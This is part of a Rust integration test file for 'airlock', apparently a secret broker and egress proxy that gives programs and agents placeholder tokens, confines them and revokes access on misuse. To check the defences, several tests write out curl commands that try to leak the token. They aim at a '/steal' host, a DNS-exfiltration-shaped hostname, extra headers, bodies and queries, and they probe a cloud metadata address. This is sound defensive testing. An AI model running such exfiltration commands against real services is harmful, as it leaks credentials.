        .args(["cap", "add", name, "--service", service, "--mode", "exec"])
        .args(["--command", "sh", "--env", "TOKEN={{secret}}"])
        .output()
        .unwrap());
}

/// `airlock run --proxy ARGS... -- sh -c SCRIPT` in `cwd`, without the test's
/// own proxy variables; (exit code, stdout, stderr).
fn run_proxied(home: &Path, cwd: &Path, args: &[&str], script: &str) -> (i32, String, String) {
    let out = airlock(home)
        .arg("run")
        .args(args)
        .args(["--", "sh", "-c", script])
        .current_dir(cwd)
        .env_remove("HTTPS_PROXY")
        .env_remove("https_proxy")
        .env_remove("HTTP_PROXY")
        .env_remove("http_proxy")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn run_proxy_gives_a_placeholder_and_the_key_goes_only_on_its_service() {
    let (port, upstream_ca, seen) = tls_upstream();
    let (dir, home) = run_home(closed_port(), port, &upstream_ca);
    // No --cap: "tool" is the exec capability whose commands name `sh`.
    let script = format!(
        r#"printf %s "$TOKEN" > held.txt; env > env.txt
curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" "https://127.0.0.1:{port}/v1/customers?limit=2""#
    );
    let (code, out, err) = run_proxied(&home, dir.path(), &["--proxy"], &script);
    assert_eq!(code, 0, "{err}");
    let answer: serde_json::Value =
        serde_json::from_str(&out).unwrap_or_else(|_| panic!("{out} {err}"));
    assert_eq!(answer["line"], "GET /v1/customers?limit=2 HTTP/1.1");
    assert_eq!(answer["authorization"], "Bearer [REDACTED:local]");
    // The program held a placeholder, never the key.
    let held = std::fs::read_to_string(dir.path().join("held.txt")).unwrap();
    assert!(
        held.starts_with("airlock_ph_") && held.len() == 51,
        "{held}"
    );
    let env = std::fs::read_to_string(dir.path().join("env.txt")).unwrap();
    assert!(!env.contains(SECRET), "{env}");
    assert!(
        env.contains("HTTPS_PROXY=http://airlock:airlock_run_"),
        "{env}"
    );
    assert!(env.contains("NO_PROXY=\n"), "{env}");
    // The upstream got the real key and never the placeholder.
    let heads = seen.lock().unwrap().join("");
    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
    assert!(!heads.contains(&held), "{heads}");
    assert!(audit_contains(&home, "placeholders for services [remote]"));
    assert!(audit_contains(&home, "/v1/customers"));
    for file in files_under(&home) {
        let bytes = std::fs::read(&file).unwrap();
        assert!(
            !bytes.windows(held.len()).any(|w| w == held.as_bytes()),
            "{}",
            file.display()
        );
    }
}

/// An HTTP/1.1 upstream that answers every request with `302 Found` to
/// `location`; the request heads it saw.
fn redirecting_upstream(location: String) -> (u16, Heads) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    let port = common::http_upstream(move |head| {
        log.lock().unwrap().push(head.to_string());
        common::http_response("302 Found", &[("Location", &location)], "")
    });
    (port, seen)
}

/// A redirect cannot carry a placeholder (or the key) elsewhere: the service's
/// redirect to another origin reaches the program without its `Location`, so
/// even a client told to follow with its credentials has nowhere to go; and a
/// program that follows by hand, sending its placeholder to a host no service
/// names, trips the wire.
#[test]
fn a_redirect_cannot_carry_a_placeholder_elsewhere() {
    let (other, other_seen) = upstream();
    let (redir, redir_seen) = redirecting_upstream(format!("http://127.0.0.1:{other}/steal"));
    let (dir, home) = home(redir, closed_port());
    add_sh_capability(&home, "web", "local");
    let script = format!(
        r#"curl -sS -o /dev/null -L --location-trusted --max-redirs 3 -w 'FOLLOW %{{http_code}} [%{{redirect_url}}]\n' -H "Authorization: Bearer $TOKEN" http://127.0.0.1:{redir}/v1/go
curl -sS -o /dev/null -w 'BYHAND %{{http_code}}\n' -H "Authorization: Bearer $TOKEN" http://127.0.0.1:{other}/steal
exit 0"#
    );
    let (code, out, err) = run_proxied(&home, dir.path(), &["--proxy", "--cap", "web"], &script);
    assert_eq!(code, 0, "{err}");
    // The service's redirect, its Location removed: curl had nothing to follow.
    assert!(out.contains("FOLLOW 302 []"), "{out} {err}");
    let heads = redir_seen.lock().unwrap().join("");
    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
    // By hand, to a host no service names: refused, and the wire trips.
    assert!(out.contains("BYHAND 403"), "{out} {err}");
    assert_untouched(&other_seen);
    assert!(err.contains("placeholder trip wire"), "{err}");
    assert!(audit_contains(&home, "placeholder trip wire"));
}

#[test]
fn a_placeholder_anywhere_else_trips_the_wire_and_ends_the_run_s_access() {
    let (port, upstream_ca, seen) = tls_upstream();
    let (up, seen_local) = upstream();
    let (dir, home) = run_home(up, port, &upstream_ca);
    let remote = format!("https://127.0.0.1:{port}/v1/customers");
    let cases = [
        // To another service's origin (the program may not reach it either).
        format!(r#"curl -sS -H "Authorization: Bearer $TOKEN" http://127.0.0.1:{up}/v1/x"#),
        // In the CONNECT target's host name (DNS exfiltration's shape).
        format!(r#"curl -sS "https://$TOKEN.example.invalid:{port}/""#),
        // The right origin, another header.
        format!(r#"curl -sS -H "X-Debug: $TOKEN" {remote}"#),
        // The right origin, in the body.
        format!(r#"curl -sS --data "token=$TOKEN" {remote}"#),
        // The right origin, in the query.
        format!(r#"curl -sS "{remote}?key=$TOKEN""#),
        // The right origin, percent-encoded in the path.
        format!(r#"curl -sS "{remote}/$(printf %s "$TOKEN" | sed 's/a/%61/g')""#),
    ];
    for case in cases {
        // The trip, then a clean request: refused at its CONNECT, the session
        // is revoked.
        let script = format!(
            "{case}; echo; curl -sS -w 'FOLLOW %{{http_code}} %{{http_connect}}\\n' {remote}; exit 0"
        );
        let (code, out, err) =
            run_proxied(&home, dir.path(), &["--proxy", "--cap", "tool"], &script);
        assert_eq!(code, 0, "{case}: {err}");
        assert!(err.contains("placeholder trip wire"), "{case}: {err}");
        assert!(out.contains("FOLLOW 000 403"), "{case}: {out} {err}");
    }
    assert_untouched(&seen);
    assert_untouched(&seen_local);
    assert!(audit_contains(
        &home,
        "placeholder trip wire: the placeholder for service \\\"remote\\\" was sent in header \\\"x-debug\\\""
    ));
    assert!(audit_contains(&home, "the body of a request"));
    // The refused follow-ups are on record too.
    assert!(audit_contains(
        &home,
        "revoked by the placeholder trip wire; nothing more goes through"
    ));
    assert!(audit_contains(
        &home,
        "the placeholder trip wire tripped (session revoked)"
    ));
    let logs = ok(airlock(&home).args(["logs", "--json"]).output().unwrap());
    assert!(String::from_utf8_lossy(&logs.stdout).contains("placeholder trip wire"));
}

#[test]
fn run_proxy_stands_in_for_references_and_gives_other_secrets_as_themselves() {
    let (port, upstream_ca, _seen) = tls_upstream();
    let (dir, home) = run_home(closed_port(), port, &upstream_ca);
    ok(airlock(&home)
        .args(["secret", "set", "dbpass", "--from-env", "DBPASS"])
        .env("DBPASS", "db_canary_password")
        .output()
        .unwrap());
    let script = r#"printf '%s\n%s\n%s\n' "$TOKEN" "$REF" "$DB" > held.txt"#;
    let out = airlock(&home)
        .args(["run", "--proxy", "--cap", "tool", "--", "sh", "-c", script])
        .current_dir(dir.path())
        .env("REF", "airlock://remote")
        .env("DB", "airlock://dbpass")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    let held = std::fs::read_to_string(dir.path().join("held.txt")).unwrap();
    let lines: Vec<&str> = held.lines().collect();
    // The reference to the key of the run's service: the same placeholder.
    assert_eq!(lines[0], lines[1]);
    assert!(lines[0].starts_with("airlock_ph_"));
    // A secret no service uses: as itself, and the run says so.
    assert_eq!(lines[2], "db_canary_password");
    assert!(err.contains("no service uses secret(s) [dbpass]"), "{err}");

    // Two capabilities reach "remote": the run asks which one.
    let out = airlock(&home)
        .args(["run", "--proxy", "--", "true"])
        .env("REF", "airlock://remote")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        err.contains("several capabilities (remote, tool)") && err.contains("--cap"),
        "{err}"
    );
    assert_eq!(err.trim().lines().count(), 1, "{err}");
}

/// Whether the kernel can confine (CI's can: `confinement_is_available_here`
/// in airlock-exec's tests fails otherwise); says so when it cannot.
#[allow(clippy::print_stderr)] // a skipped test says why
fn landlock_here() -> bool {
    let here = matches!(
        airlock_exec::Support::probe(),
        airlock_exec::Support::Landlock { .. }
    );
    if !here {
        eprintln!("skipped: no Landlock here");
    }
    here
}

/// What a confined child is tried against, where the kernel can confine
/// (`None`, said, where it cannot): an HTTPS upstream ([`tls_upstream`]), a
/// [`run_home`] for it in a temporary directory, an empty directory `work`
/// there. The directory, the home, `work`, the service's `/v1/customers` URL
/// and the request heads the upstream saw.
fn confined() -> Option<(tempfile::TempDir, PathBuf, PathBuf, String, Heads)> {
    if !landlock_here() {
        return None;
    }
    let (port, upstream_ca, seen) = tls_upstream();
    let (dir, home) = run_home(closed_port(), port, &upstream_ca);
    let work = dir.path().join("work");
    std::fs::create_dir(&work).unwrap();
    let url = format!("https://127.0.0.1:{port}/v1/customers");
    Some((dir, home, work, url, seen))
}

#[test]
fn a_confined_run_reaches_the_network_only_through_its_proxy() {
    let Some((_dir, home, work, url, seen)) = confined() else {
        return;
    };
    // Through the proxy: allowed. Around it (--noproxy): the sandbox refuses
    // the connection; UDP too.
    let script = format!(
        r#"curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" {url}; echo
curl -sS --max-time 5 --noproxy '*' -k {url}; echo "DIRECT-EXIT $?"
python3 -c '
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print("UDP-OK")
except PermissionError:
    print("UDP-REFUSED")
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    print("UNIX-OK")
except PermissionError:
    print("UNIX-REFUSED")'
exit 0"#
    );
    let (code, out, err) = run_proxied(
        &home,
        &work,
        &["--confine", "--proxy", "--cap", "tool"],
        &script,
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("Bearer [REDACTED:local]"), "{out} {err}");
    // curl: "Failed to connect" (7), the kernel said EACCES.
    assert!(out.contains("DIRECT-EXIT 7"), "{out} {err}");
    assert!(out.contains("UDP-REFUSED"), "{out} {err}");
    // No UNIX socket either: control.sock answers revocations.
    assert!(out.contains("UNIX-REFUSED"), "{out} {err}");
    assert_eq!(seen.lock().unwrap().len(), 1);
}

/// `run --confine` without `--proxy`: the child's environment follows each
/// capability's `inject` (DESIGN §7.11). The default, a placeholder, brings the
/// run's own proxy; `inject = "env"` gives the key itself and no proxy; a run
/// without `--confine` is the owner's own command and gets the key.
#[test]
fn a_confined_run_follows_each_capabilitys_inject() {
    let Some((_dir, home, work, url, seen)) = confined() else {
        return;
    };
    let config = std::fs::read_to_string(home.join("airlock.toml")).unwrap();
    assert!(
        !config.contains("inject"),
        "cap add wrote no inject: {config}"
    );
    let script = format!(
        r#"printf %s "$TOKEN" > held.txt; printf %s "${{HTTPS_PROXY:-none}}" > proxy.txt
curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" {url}; echo
curl -sS --max-time 5 --noproxy '*' -k {url}; echo "DIRECT-EXIT $?"
exit 0"#
    );

    // The default: a placeholder, the key put on by the run's proxy only.
    let (code, out, err) = run_proxied(&home, &work, &["--confine", "--cap", "tool"], &script);
    assert_eq!(code, 0, "{err}");
    let held = std::fs::read_to_string(work.join("held.txt")).unwrap();
    assert!(held.starts_with("airlock_ph_"), "{held}");
    assert!(
        std::fs::read_to_string(work.join("proxy.txt"))
            .unwrap()
            .starts_with("http://"),
        "{out} {err}"
    );
    assert!(out.contains("Bearer [REDACTED:local]"), "{out} {err}");
    assert!(out.contains("DIRECT-EXIT 7"), "{out} {err}");
    let heads = seen.lock().unwrap().join("");
    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
    assert!(!heads.contains(&held), "{heads}");
    assert_eq!(seen.lock().unwrap().len(), 1);
    assert!(audit_contains(
        &home,
        "inject = placeholder: placeholders for services [remote]"
    ));

    // `inject = "env"`: the key itself, no proxy, and (network "none") no
    // connection at all.
    let toml = home.join("airlock.toml");
    let text = std::fs::read_to_string(&toml).unwrap().replace(
        "[capabilities.tool]\n",
        "[capabilities.tool]\ninject = \"env\"\n",
    );
    std::fs::write(&toml, text).unwrap();
    let (code, out, err) = run_proxied(&home, &work, &["--confine", "--cap", "tool"], &script);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        std::fs::read_to_string(work.join("held.txt")).unwrap(),
        SECRET
    );
    assert_eq!(
        std::fs::read_to_string(work.join("proxy.txt")).unwrap(),
        "none"
    );
    assert!(out.contains("DIRECT-EXIT 7"), "{out} {err}");
    assert_eq!(
        seen.lock().unwrap().len(),
        1,
        "nothing reached the upstream"
    );

    // Unconfined, the owner's own command gets the key, whatever `inject` says.
    let text = std::fs::read_to_string(&toml)
        .unwrap()
        .replace("inject = \"env\"\n", "");
    std::fs::write(&toml, text).unwrap();
    let (code, _, err) = run_proxied(
        &home,
        &work,
        &["--cap", "tool"],
        "printf %s \"$TOKEN\" > held.txt",
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        std::fs::read_to_string(work.join("held.txt")).unwrap(),
        SECRET
    );
}

/// The tool of a stdio MCP server (`python_mcp_server`) that fetches the URL
/// it is given with `Authorization: Bearer $TOKEN` (urllib, through the
/// environment's proxy) and answers what came back and what it holds.
const FETCH_TOOL: &str = r#"
import os, urllib.request
def tool(args):
    req = urllib.request.Request(args["url"],
                                 headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
    body = urllib.request.urlopen(req, timeout=20).read().decode()
    held = "placeholder" if os.environ["TOKEN"].startswith("airlock_ph_") else "other"
    return held + " " + body
"#;

/// `wrap --confine` follows `inject` as `run --confine` does: the wrapped
/// server holds a placeholder and its requests reach the service with the key.
#[test]
fn a_confined_wrap_gives_the_server_a_placeholder_and_a_proxy() {
    if !Path::new("/usr/bin/python3").exists() {
        return;
    }
    let Some((_dir, home, work, url, seen)) = confined() else {
        return;
    };
    std::fs::write(
        work.join("fetch.py"),
        common::python_mcp_server("fetch", FETCH_TOOL),
    )
    .unwrap();
    let lines = [
        serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": common::initialize_params("wrap-test")}),
        serde_json::json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "fetch", "arguments": {"url": url}}}),
    ];
    // The answers come before the server sees the end of its input.
    let input: String = lines.iter().map(|line| format!("{line}\n")).collect();
    let out = common::output_with_stdin(
        airlock(&home)
            .args([
                "wrap",
                "--confine",
                "--cap",
                "tool",
                "--",
                "/usr/bin/python3",
                "fetch.py",
            ])
            .current_dir(&work)
            .env_remove("HTTPS_PROXY")
            .env_remove("https_proxy"),
        input.as_bytes(),
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    let answer: serde_json::Value = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["id"] == 2)
        .unwrap_or_else(|| panic!("no answer to the call: {stderr}"));
    let text = answer["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default();
    assert!(text.starts_with("placeholder "), "{answer} {stderr}");
    assert!(
        text.contains("Bearer [REDACTED:local]"),
        "{answer} {stderr}"
    );
    let heads = seen.lock().unwrap().join("");
    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
    assert!(!heads.contains("airlock_ph_"), "{heads}");
    assert!(audit_contains(
        &home,
        "inject = placeholder: placeholders for services [remote]"
    ));
}

#[test]
fn revoke_all_stops_a_running_run_proxy_at_its_next_request() {
    let (port, upstream_ca, seen) = tls_upstream();
    let (dir, home) = run_home(closed_port(), port, &upstream_ca);
    let bin = env!("CARGO_BIN_EXE_airlock");
    let get = format!(
        r#"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}\n' -H "Authorization: Bearer $TOKEN" https://127.0.0.1:{port}/v1/x"#
    );
    // The owner revokes everything while the run is going on (from the run
    // itself here, for a deterministic order).
    let script = format!("{get}; '{bin}' revoke --all >/dev/null; {get}; exit 0");
    let (code, out, err) = run_proxied(&home, dir.path(), &["--proxy", "--cap", "tool"], &script);
    assert_eq!(code, 0, "{err}");
    let codes: Vec<&str> = out.lines().collect();
    assert_eq!(codes, ["200", "403"], "{out} {err}");
    assert_eq!(seen.lock().unwrap().len(), 1);
    assert!(audit_contains(&home, "revoked"));
}

// ---------------------------------------------------------------------------
// The MCP `exec` tool with `inject = "placeholder"` (the default): the program holds a
// placeholder and reaches its service only through the children's egress proxy.

#[path = "common/mod.rs"]
mod common;

/// `airlock serve --agent bot` over stdio, initialized.
fn mcp_serve(home: &Path) -> common::McpClient {
    let mut cmd = airlock(home);
    cmd.args(["serve", "--agent", AGENT]);
    let mut c = common::McpClient::spawn(cmd);
    c.initialize("proxy-test");
    c
}

#[test]
fn an_exec_child_by_default_holds_a_placeholder_and_reaches_only_the_proxy() {
    let Some((_dir, home, work, url, seen)) = confined() else {
        return;
    };
    let work = work.canonicalize().unwrap();
    ok(airlock(&home)
        .args([
            "cap",
            "add",
            "agenttool",
            "--service",
            "remote",
            "--mode",
            "exec",
            "--command",
            "sh",
            "--env",
            "TOKEN={{secret}}",
            "--workdir",
        ])
        .arg(&work)
        .output()
        .unwrap());
    // No --inject: a placeholder is the default (DESIGN §4).
    let config = std::fs::read_to_string(home.join("airlock.toml")).unwrap();
    assert!(!config.contains("inject"), "{config}");
    let mut c = mcp_serve(&home);
    let script = format!(
        r#"printf %s "$TOKEN" > held.txt
curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" {url}; echo
curl -sS --max-time 5 --noproxy '*' -k {url}; echo "DIRECT-EXIT $?""#
    );
    let args = serde_json::json!({"capability": "agenttool", "command": ["sh", "-c", script], "cwd": work.to_str().unwrap()});
    let (is_error, text) = c.tool("exec", args);
    assert!(!is_error, "{text}");
    let out: serde_json::Value = serde_json::from_str(&text).unwrap();
    let stdout_text = out["stdout"].as_str().unwrap();
    assert!(stdout_text.contains("Bearer [REDACTED:local]"), "{text}");
    assert!(stdout_text.contains("DIRECT-EXIT 7"), "{text}");
    let held = std::fs::read_to_string(work.join("held.txt")).unwrap();
    assert!(held.starts_with("airlock_ph_"), "{held}");
    let heads = seen.lock().unwrap().join("");
    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
    assert!(!heads.contains(&held), "{heads}");
    assert!(audit_contains(
        &home,
        "a placeholder for the secret, HTTPS through the egress proxy"
    ));
    // The key is in no file of the home nor of the workdir (the vault holds
    // it sealed), and the agent never saw it.
    for file in files_under(&home).into_iter().chain(files_under(&work)) {
        let bytes = std::fs::read(&file).unwrap();
        assert!(
            !bytes.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
            "the key is in {}",
            file.display()
        );
    }
    assert!(!text.contains(SECRET), "{text}");

    // A child that sends its placeholder elsewhere trips the wire: refused, and
    // the agent's session is revoked — its next exec call is refused too.
    let leak = format!(r#"curl -sS -o /dev/null -w '%{{http_code}}' -H "X-Debug: $TOKEN" {url}"#);
    let args = serde_json::json!({"capability": "agenttool", "command": ["sh", "-c", leak], "cwd": work.to_str().unwrap()});
    let (is_error, text) = c.tool("exec", args.clone());
    assert!(!is_error, "{text}");
    assert!(text.contains("403"), "{text}");
    assert_eq!(seen.lock().unwrap().len(), 1);
    let (is_error, text) = c.tool("exec", args);
    assert!(is_error, "{text}");
    assert!(text.contains("revoked"), "{text}");
    assert!(audit_contains(&home, "placeholder trip wire"));
    c.finish(Duration::from_secs(10));
}

// ---------------------------------------------------------------------------
// `egress = "tunnel"`: a host no service names is tunnelled unmodified when it
// is public, refused when it resolves to a private or loopback address.

#[test]
fn egress_tunnel_reaches_public_hosts_unmodified_and_never_private_ones() {
    // A network namespace of the test's own, where 198.18.0.1 (a public-range
    // address) is local: the only way to test a "public" host with no internet.
    let probe = Command::new("unshare").args(["-n", "true"]).status();
    if !probe.is_ok_and(|s| s.success()) {
        eprintln!("skipped: cannot create a network namespace here (needs root)");
        return;
    }
    let (_dir, home) = home(closed_port(), closed_port());
    let toml = home.join("airlock.toml");
    let config = std::fs::read_to_string(&toml).unwrap();
    let config = if config.contains("[server]\n") {
        config.replace("[server]\n", "[server]\negress = \"tunnel\"\n")
    } else {
        format!("[server]\negress = \"tunnel\"\n\n{config}")
    };
    std::fs::write(&toml, config).unwrap();
    let token = String::from_utf8(
        ok(airlock(&home)
            .args(["token", "issue", "--agent", AGENT])
            .output()
            .unwrap())
        .stdout,
    )
    .unwrap()
    .trim()
    .to_string();
    let auth = base64_of(&format!("airlock:{token}"));
    // In the namespace: a TCP server on 198.18.0.1:8443 that greets, the proxy,
    // and a client that CONNECTs to it, to a loopback port, and to a metadata
    // address.
    let script = format!(
        r#"set -e
ip link set lo up
ip addr add 198.18.0.1/32 dev lo
python3 - >/dev/null 2>&1 <<'PY' &
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.18.0.1", 8443)); s.listen(4)
while True:
    c, _ = s.accept(); c.sendall(b"HELLO-FROM-PUBLIC\n"); data = c.recv(100); c.sendall(b"ECHO " + data); c.close()
PY
SRV=$!
'{bin}' serve --proxy 127.0.0.1:18789 >/dev/null 2>proxy.log &
PX=$!
trap 'kill $SRV $PX' EXIT
for i in $(seq 50); do python3 -c 'import socket; socket.create_connection(("127.0.0.1", 18789))' 2>/dev/null && break; sleep 0.1; done
python3 - <<'PY'
import socket
def connect(target):
    s = socket.create_connection(("127.0.0.1", 18789))
    s.sendall(f"CONNECT {{target}} HTTP/1.1\r\nHost: {{target}}\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk: break
        head += chunk
    return s, head.decode(errors="replace")
s, head = connect("198.18.0.1:8443")
print("PUBLIC", head.split("\r\n")[0])
print(s.recv(100).decode().strip())
s.sendall(b"ping\n"); print(s.recv(100).decode().strip())
for target in ("127.0.0.1:9", "169.254.169.254:80", "localhost:9"):
    s, head = connect(target)
    body = s.recv(2000).decode(errors="replace")
    print("PRIVATE", target, head.split("\r\n")[0], "not a public address" in head + body)
PY
"#,
        bin = env!("CARGO_BIN_EXE_airlock"),
    );
    let out = Command::new("unshare")
        .args(["-n", "sh", "-c", &script])
        .env("AIRLOCK_HOME", &home)
        .current_dir(&home)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stdout.contains("PUBLIC HTTP/1.1 200 OK"),
        "{stdout}\n{stderr}"
    );
    assert!(stdout.contains("HELLO-FROM-PUBLIC"), "{stdout}");
    assert!(stdout.contains("ECHO ping"), "{stdout}");
    for target in ["127.0.0.1:9", "169.254.169.254:80", "localhost:9"] {
        assert!(
            stdout.contains(&format!("PRIVATE {target} HTTP/1.1 403 Forbidden True")),
            "{target}: {stdout}\n{stderr}"
        );
    }
    assert!(audit_contains(&home, "tunnelled unmodified"));
    assert!(audit_contains(&home, "198.18.0.1:8443"));
    assert!(audit_contains(&home, "which is not a public address"));
}

#[test]
fn run_proxy_refuses_a_plan_it_cannot_keep_in_one_line_and_runs_nothing() {
    let (port, upstream_ca, _seen) = tls_upstream();
    let (dir, home) = run_home(closed_port(), port, &upstream_ca);
    // "remote" (http) and "tool" (exec) both use service "remote".
    for (caps, says) in [
        (&["--cap", "nope"][..], "unknown capability \"nope\""),
        (
            &["--cap", "tool", "--cap", "remote"][..],
            "both use service \"remote\"",
        ),
    ] {
        let out = airlock(&home)
            .args(["run", "--proxy"])
            .args(caps)
            .args(["--", "touch", "ran"])
            .current_dir(dir.path())
            .output()
            .unwrap();
        let err = common::exit_2(caps, &out, says);
        assert_eq!(err.trim().lines().count(), 1, "{err}");
        assert!(!dir.path().join("ran").exists());
    }
}
